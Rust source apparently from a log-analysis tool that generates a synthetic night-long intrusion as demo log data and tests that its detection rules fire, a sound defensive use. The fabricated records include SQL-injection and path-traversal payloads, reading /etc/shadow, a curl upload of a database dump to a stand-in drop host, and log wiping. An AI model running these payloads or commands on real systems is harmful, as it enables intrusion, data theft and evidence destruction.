//! The break-in: one night between 02:40 and 03:30, and the guide through it.

use super::company::{DATABASE, PUBLIC_ADDRESS, Server, WEB};
use super::lines::{self, Flow, Priority, Request, arguments, audit, syslog};
use super::random::Random;
use super::{Day, HOUR, MINUTE, SECOND};

/// One step of the story, for the guide that the command prints.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Step {
    /// When it begins, in microseconds after the start of the day.
    pub(crate) after_us: i64,
    /// What happens, in a few words.
    pub(crate) title: &'static str,
    /// A query that shows it.
    pub(crate) what_to_look_at: &'static str,
}

/// The intruder's address.
const INTRUDER: &str = "203.0.113.66";
/// Where the customers' data went.
const DROP: &str = "198.51.100.23";

const SCAN: i64 = 2 * HOUR + 40 * MINUTE;
const INJECTION: i64 = 2 * HOUR + 46 * MINUTE;
const TRAVERSAL: i64 = 2 * HOUR + 53 * MINUTE;
const GUESSING: i64 = 2 * HOUR + 57 * MINUTE;
const LOGIN: i64 = 3 * HOUR + 5 * MINUTE;
const ROOT: i64 = 3 * HOUR + 8 * MINUTE;
const KEY: i64 = 3 * HOUR + 12 * MINUTE;
const DUMP: i64 = 3 * HOUR + 16 * MINUTE;
const TRANSFER: i64 = 3 * HOUR + 27 * MINUTE;
const TRACES: i64 = 3 * HOUR + 29 * MINUTE;

macro_rules! steps {
    ($($after:expr, $title:literal, $query:literal;)*) => {
        &[$(Step { after_us: $after, title: $title, what_to_look_at: $query }),*]
    };
}

/// The steps in the order of time. The last one is no attack.
pub(crate) const STORY: &[Step] = steps![
    SCAN, "A port scan of the firewall from 203.0.113.66",
        "source:firewall source.ip:203.0.113.66 | stats count() by destination.port";
    INJECTION, "SQL injection tried on the shop; some answers are 500",
        "source:nginx source.ip:203.0.113.66 | stats count() by http.response.status_code";
    TRAVERSAL, "Path traversal tried on the shop, without success",
        "source:nginx source.ip:203.0.113.66 passwd";
    GUESSING, "About 300 passwords guessed over SSH on web1",
        "source.ip:203.0.113.66 event.action:ssh_login | stats count() by user.name";
    LOGIN, "One of them was right: the intruder is in as deploy",
        "source:linux source.ip:203.0.113.66 event.outcome:success";
    ROOT, "deploy reads the password hashes and becomes root",
        "source:linux user.name:deploy event.action:sudo_command";
    KEY, "A new key in authorized_keys of root: a way back in",
        "source:auditd file.path:\"/root/.ssh/authorized_keys\"";
    DUMP, "The shop's database is dumped on db1",
        "source:linux pg_dump user.name:deploy";
    TRANSFER, "1.3 GB leave db1 for 198.51.100.23",
        "source:firewall destination.ip:198.51.100.23";
    TRACES, "Logs and the shell history are emptied; here they stay",
        "truncate OR bash_history";
    10 * HOUR + 12 * MINUTE, "And one alert that is nothing: a new colleague gets an account",
        "source:windows event.code:4720";
];

/// Writes the night into the day.
pub(super) fn write(day: &mut Day, seed: u64) {
    let random = &mut Random::new(seed, "story");
    scan(day, random);
    injection(day, random);
    traversal(day, random);
    guessing(day, random);
    login(day);
    root(day);
    key(day);
    dump(day);
    transfer(day);
    traces(day);
}

fn scan(day: &mut Day, random: &mut Random) {
    const FIRST: &[i64] =
        &[21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 389, 443, 445, 993, 1433, 1521, 2049];
    let ports = FIRST.iter().copied().chain((0..160).map(|i| 3_000 + i * 37));
    for (i, port) in ports.enumerate() {
        let open = matches!(port, 22 | 80 | 443);
        let flow = Flow {
            source: INTRUDER,
            source_port: random.between(32_768, 60_999),
            destination: PUBLIC_ADDRESS,
            port,
            protocol: 6,
            action: if open { "accept" } else { "deny" },
            policy: i64::from(open),
            seconds: 0,
            sent_bytes: 60,
            received_bytes: if open { 60 } else { 0 },
        };
        day.add(SCAN + i as i64 * 700_000, "firewall", |t| flow.line(t));
    }
}

fn ask(day: &mut Day, at: i64, url: &str, status: i64, bytes: i64, agent: &str) {
    let request =
        Request { address: INTRUDER, method: "GET", url, status, bytes, referrer: "-", agent };
    day.add(at, "nginx", |t| request.line(t));
}

fn injection(day: &mut Day, random: &mut Random) {
    const TRIES: &[&str] = &[
        "/search?q=tea%27",
        "/search?q=tea%27%20OR%20%271%27=%271",
        "/search?q=tea%27%20AND%201=2--",
        "/search?q=tea%27%20ORDER%20BY%209--%20",
        "/search?q=tea%27%20UNION%20SELECT%20NULL,NULL,NULL--",
        "/search?q=tea%27%20UNION%20SELECT%20table_name,2,3%20FROM%20information_schema.tables--",
        "/search?q=tea%27;SELECT%20pg_sleep(5)--",
        "/tea/assam?size=1%20AND%20(SELECT%201%20FROM%20users)=1",
    ];
    for i in 0..72_i64 {
        let at = INJECTION + i * 4_100_000 + random.between(0, 900_000);
        let url = TRIES[i as usize % TRIES.len()];
        let status = if i % 3 == 0 { 500 } else { 200 };
        ask(day, at, url, status, random.between(400, 9_000), "sqlmap/1.9.11#stable");
        if status == 500 {
            let trace = random.hex(16);
            let fields = [
                ("trace.id", trace.as_str()),
                ("source.ip", INTRUDER),
                ("url.path", "/search"),
                ("error.message", "syntax error at or near \"'\" (SQLSTATE 42601)"),
            ];
            day.add(at + 9_000, "shop", |t| {
                lines::shop(t, "error", "database refused a query", &fields)
            });
        }
    }
}

fn traversal(day: &mut Day, random: &mut Random) {
    const TRIES: &[&str] = &[
        "/img/../../../../etc/passwd",
        "/img/..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/img/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/download?file=../../../../etc/passwd",
        "/download?file=....//....//....//etc/passwd",
        "/download?file=/proc/self/environ",
        "/download?file=php://filter/convert.base64-encode/resource=index",
    ];
    for i in 0..14_usize {
        let at = TRAVERSAL + i as i64 * 9 * SECOND;
        let status = if i % 2 == 0 { 400 } else { 404 };
        ask(day, at, TRIES[i % TRIES.len()], status, random.between(146, 300), "curl/8.14.1");
    }
}

fn login_line(day: &mut Day, at: i64, server: &Server, tag: &str, pid: i64, text: &str) {
    let priority = if tag == "sudo" { Priority::Sudo } else { Priority::Login };
    day.add(at, "linux", |t| syslog(t, priority, server.0, tag, pid, text));
}

fn guessing(day: &mut Day, random: &mut Random) {
    const UNKNOWN: &[&str] =
        &["admin", "oracle", "test", "ubuntu", "postgres1", "jenkins", "tomcat", "ftpuser"];
    const KNOWN: &[&str] = &["root", "deploy", "anna", "ben", "dmitri", "grace", "postgres"];
    for i in 0..300_i64 {
        let at = GUESSING + i * 1_550_000;
        let (pid, port) = (31_000 + i, random.between(32_768, 60_999));
        let unknown = i % 3 == 0;
        let user = *random.pick(if unknown { UNKNOWN } else { KNOWN });
        let who = if unknown { format!("invalid user {user}") } else { user.to_string() };
        if unknown {
            let text = format!("Invalid user {user} from {INTRUDER} port {port}");
            login_line(day, at - 300_000, &WEB, "sshd", pid, &text);
        }
        let text = format!("Failed password for {who} from {INTRUDER} port {port} ssh2");
        login_line(day, at, &WEB, "sshd", pid, &text);
        let closed = if unknown { "invalid user" } else { "authenticating user" };
        let text = format!("Connection closed by {closed} {user} {INTRUDER} port {port} [preauth]");
        login_line(day, at + 400_000, &WEB, "sshd", pid, &text);
    }
}

fn login(day: &mut Day) {
    let text = format!("Accepted password for deploy from {INTRUDER} port 51922 ssh2");
    login_line(day, LOGIN, &WEB, "sshd", 31_402, &text);
    let text = "pam_unix(sshd:session): session opened for user deploy(uid=1004) by (uid=0)";
    login_line(day, LOGIN + 30_000, &WEB, "sshd", 31_402, text);
}

/// deploy runs `command` as `target`; the audit system sees the program start.
fn sudo(day: &mut Day, at: i64, server: &Server, target: &str, command: &[&str]) {
    let text = format!(
        "  deploy : TTY=pts/1 ; PWD=/home/deploy ; USER={target} ; COMMAND={}",
        command.join(" ")
    );
    login_line(day, at, server, "sudo", 0, &text);
    execution(day, at + 4_000, server, command);
}

fn execution(day: &mut Day, at: i64, server: &Server, words: &[&str]) {
    let exe = words.first().copied().unwrap_or_default();
    let name = exe.rsplit('/').next().unwrap_or(exe);
    let serial = 700_000 + at / SECOND;
    let rest = format!(
        "arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=31402 pid=31990 auid=1004 uid=0 \
         gid=0 tty=pts1 ses=88 comm=\"{name}\" exe=\"{exe}\" key=\"exec\""
    );
    day.add(at, "auditd", |t| audit(t, server.0, "SYSCALL", serial, &rest));
    day.add(at, "auditd", |t| audit(t, server.0, "EXECVE", serial, &arguments(words)));
}

fn root(day: &mut Day) {
    sudo(day, ROOT, &WEB, "root", &["/usr/bin/id"]);
    sudo(day, ROOT + 25 * SECOND, &WEB, "root", &["/usr/bin/cat", "/etc/shadow"]);
    sudo(day, ROOT + 70 * SECOND, &WEB, "root", &["/bin/bash"]);
    let text = "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1004)";
    login_line(day, ROOT + 70 * SECOND + 8_000, &WEB, "sudo", 0, text);
}

fn key(day: &mut Day) {
    let records = [
        (
            "SYSCALL",
            "arch=c000003e syscall=257 success=yes exit=3 items=2 ppid=31990 pid=32011 auid=1004 \
             uid=0 gid=0 tty=pts1 ses=88 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"ssh_keys\"",
        ),
        ("CWD", "cwd=\"/root\""),
        (
            "PATH",
            "item=0 name=\"/root/.ssh/\" inode=262410 dev=fd:01 mode=040700 ouid=0 ogid=0 \
             rdev=00:00 nametype=PARENT",
        ),
        (
            "PATH",
            "item=1 name=\"/root/.ssh/authorized_keys\" inode=262411 dev=fd:01 mode=0100600 ouid=0 \
             ogid=0 rdev=00:00 nametype=CREATE",
        ),
    ];
    for (kind, rest) in records {
        day.add(KEY, "auditd", |t| audit(t, WEB.0, kind, 702_511, rest));
    }
}

fn dump(day: &mut Day) {
    let text = format!("Accepted publickey for deploy from {} port 40112 ssh2", WEB.1);
    login_line(day, DUMP - 40 * SECOND, &DATABASE, "sshd", 8_840, &text);
    let command = ["/usr/bin/pg_dump", "-Fc", "-f", "/tmp/.s.dump", "shop"];
    sudo(day, DUMP, &DATABASE, "postgres", &command);
}

fn transfer(day: &mut Day) {
    let words = ["/usr/bin/curl", "-sT", "/tmp/.s.dump", "https://198.51.100.23/u"];
    execution(day, TRANSFER - 9 * MINUTE, &DATABASE, &words);
    let flow = Flow {
        source: DATABASE.1,
        source_port: 50_412,
        destination: DROP,
        port: 443,
        protocol: 6,
        action: "accept",
        policy: 3,
        seconds: 538,
        sent_bytes: 1_342_177_280,
        received_bytes: 902_113,
    };
    day.add(TRANSFER, "firewall", |t| flow.line(t));
}

fn traces(day: &mut Day) {
    sudo(day, TRACES, &DATABASE, "root", &["/usr/bin/truncate", "-s", "0", "/var/log/auth.log"]);
    let commands: [&[&str]; 3] = [
        &["/usr/bin/truncate", "-s", "0", "/var/log/auth.log"],
        &["/usr/bin/truncate", "-s", "0", "/var/log/wtmp"],
        &["/usr/bin/rm", "-f", "/root/.bash_history"],
    ];
    for (i, words) in commands.into_iter().enumerate() {
        execution(day, TRACES + (15 + 8 * i as i64) * SECOND, &WEB, words);
    }
    let text = format!("Disconnected from user deploy {INTRUDER} port 51922");
    login_line(day, TRACES + 50 * SECOND, &WEB, "sshd", 31_402, &text);
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;
    use std::sync::Arc;

    use super::super::{DAY, DemoRecord, SECOND, day};
    use super::*;

    const START_US: i64 = 1_795_392_000 * SECOND;

    #[test]
    fn steps_are_in_order_and_inside_the_day() {
        assert!(STORY.is_sorted_by_key(|s| s.after_us));
        assert!(STORY.iter().all(|s| (0..DAY).contains(&s.after_us)));
        assert!(STORY.iter().all(|s| !s.title.is_empty() && !s.what_to_look_at.is_empty()));
    }

    #[test]
    fn every_step_has_records_at_its_time() {
        let records = day(1, START_US);
        for step in STORY {
            let from = START_US + step.after_us;
            let found = records.iter().any(|r| (from..from + SECOND).contains(&r.time_us));
            assert!(found, "{}", step.title);
        }
    }

    #[track_caller]
    fn check(source: &str, needles: &[&str], expected: usize) {
        let records = day(1, START_US);
        let found = records
            .iter()
            .filter(|r| r.source == source && needles.iter().all(|n| r.line.contains(n)))
            .count();
        assert_eq!(found, expected, "{source} {needles:?}");
    }

    #[test]
    fn the_intruder_leaves_these_records_and_nobody_else_does() {
        check("linux", &["Failed password", INTRUDER], 300);
        check("linux", &["Accepted password"], 1);
        check("firewall", &["action=\"deny\"", INTRUDER], 175);
        check("nginx", &["sqlmap"], 72);
        check("nginx", &["passwd", INTRUDER], 10);
        check("shop", &["database refused"], 24);
        check("auditd", &["authorized_keys"], 1);
        check("linux", &["pg_dump", "sudo"], 1);
        check("firewall", &["dstip=198.51.100.23 "], 1);
        check("linux", &["sudo", "truncate"], 1);
    }

    /// What the real parsers and the built-in rules make of the day.
    struct Seen {
        /// Titles of the rules that fired, without repeats.
        rules: BTreeSet<String>,
        /// How many events each query of the guide found.
        found: Vec<usize>,
    }

    fn watch(records: &[DemoRecord]) -> Seen {
        let parser = pugmark_parse::Parser::builtin().unwrap();
        let (rules, problems) = pugmark_engine::rules::compile(&pugmark_engine::rules::builtin());
        assert!(problems.is_empty(), "{problems:?}");
        let mut detector = pugmark_detect::Detector::new(Arc::new(rules));
        let plans: Vec<_> =
            STORY.iter().map(|s| pugmark_query::parse(s.what_to_look_at).unwrap()).collect();
        let mut seen = Seen { rules: BTreeSet::new(), found: vec![0; plans.len()] };
        // In blocks of one source each, as records arrive: sorting is stable.
        let mut slices: Vec<Vec<&DemoRecord>> =
            records.chunks(2_000).map(|slice| slice.iter().collect()).collect();
        slices.iter_mut().for_each(|slice| slice.sort_by_key(|r| r.source));
        for run in slices.iter().flat_map(|slice| slice.chunk_by(|a, b| a.source == b.source)) {
            let lines: pugmark_event::Records = run.iter().map(|r| r.line.as_bytes()).collect();
            let batch = parser.parse(&pugmark_parse::Input {
                source: run[0].source,
                records: &lines,
                first_id: 1,
                received: START_US + DAY,
                format: None,
            });
            seen.rules.extend(detector.process(&batch).into_iter().map(|d| d.rule.title.clone()));
            for (count, plan) in seen.found.iter_mut().zip(&plans) {
                *count += pugmark_query::eval::matches(&plan.filter, &batch).true_count();
            }
        }
        seen
    }

    #[test]
    fn the_rules_see_the_story_and_the_guide_finds_it() {
        let seen = watch(&day(1, START_US));
        let rules: Vec<&str> = seen.rules.iter().map(String::as_str).collect();
        // All but the last line of the guide are the intruder's doing; nothing else may fire.
        assert_eq!(
            rules,
            [
                "Database dumped into an open folder",
                "Database dumped through sudo",
                "Large transfer out of the network",
                "New Windows account",
                "Password hashes read by a program",
                "Password hashes read through sudo",
                "Path traversal in a URL",
                "Port scan",
                "Port scanner logs in over SSH",
                "Root shell through sudo",
                "SQL injection in a URL",
                "SSH keys of an account changed",
                "SSH login succeeded after password guessing",
                "SSH password guessing from one address",
                "SSH password spraying from one address",
                "SSH tries with many unknown users",
                "Shell history destroyed",
                "System logs cleared",
                "System logs cleared through sudo",
                "Web attacker logs in over SSH",
                "Web scanner at work",
            ]
        );
        for (step, found) in STORY.iter().zip(&seen.found) {
            assert!((1..500).contains(found), "{found} {}", step.what_to_look_at);
        }
    }
}
